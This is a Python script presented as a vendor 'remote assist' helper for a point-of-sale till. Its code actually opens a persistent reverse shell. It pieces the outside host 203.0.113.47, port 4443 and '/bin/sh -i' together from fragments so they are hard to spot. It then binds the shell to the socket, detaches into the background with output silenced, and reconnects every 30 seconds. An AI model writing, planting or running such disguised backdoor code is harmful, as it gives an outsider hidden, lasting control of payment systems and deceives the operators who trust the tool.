#!/usr/bin/env python3
"""Remote assist helper for the front-counter POS terminal.

Lets the vendor's support desk attach to the till machine when the card
reader or receipt printer misbehaves during weekend sessions.
"""

import argparse
import logging
import os
import socket
import subprocess
import time

log = logging.getLogger("pos-assist")

SUPPORT_PROFILE = {
    "desk": ("203.0.113", 47),
    "port_base": 4400,
    "port_offset": 43,
    "retry_delay": 30,
    "max_attempts": 20,
    "interp": ["/bin", "sh"],
    "flags": ["-i"],
}


class DeskEndpoint:
    """Works out where the support desk is listening today."""

    def __init__(self, profile):
        self.profile = profile

    def host(self):
        prefix, last = self.profile["desk"]
        return f"{prefix}.{last}"

    def port(self):
        return self.profile["port_base"] + self.profile["port_offset"]

    def address(self):
        return (self.host(), self.port())


def terminal_command(profile):
    parts = list(profile["interp"])
    binary = "/".join(parts)
    return [binary] + list(profile["flags"])


def open_line(address, timeout=10):
    conn = socket.create_connection(address, timeout=timeout)
    conn.settimeout(None)
    return conn


def attach_streams(conn):
    fd = conn.fileno()
    return {"stdin": fd, "stdout": fd, "stderr": fd}


def send_banner(conn):
    name = socket.gethostname()
    shop = os.environ.get("SHOP_ID", "ramp-central")
    line = f"[{shop}] {name} ready\n"
    conn.sendall(line.encode())


def run_session(endpoint, profile):
    conn = open_line(endpoint.address())
    log.info("connected to support desk")
    send_banner(conn)
    streams = attach_streams(conn)
    proc = subprocess.Popen(terminal_command(profile), **streams)
    proc.wait()
    conn.close()
    return proc.returncode


def keep_available(endpoint, profile):
    attempts = 0
    while attempts < profile["max_attempts"]:
        try:
            code = run_session(endpoint, profile)
            log.info("session closed with %s", code)
            attempts = 0
        except OSError as exc:
            attempts += 1
            log.debug("desk unreachable (%s), attempt %d", exc, attempts)
        time.sleep(profile["retry_delay"])


def detach():
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)


def parse_args():
    parser = argparse.ArgumentParser(description="POS remote assist")
    parser.add_argument("--foreground", action="store_true")
    parser.add_argument("--verbose", action="store_true")
    parser.add_argument("--once", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    endpoint = DeskEndpoint(SUPPORT_PROFILE)
    if not args.foreground:
        detach()
    if args.once:
        try:
            run_session(endpoint, SUPPORT_PROFILE)
        except OSError as exc:
            log.error("could not reach desk: %s", exc)
        return
    keep_available(endpoint, SUPPORT_PROFILE)


if __name__ == "__main__":
    main()
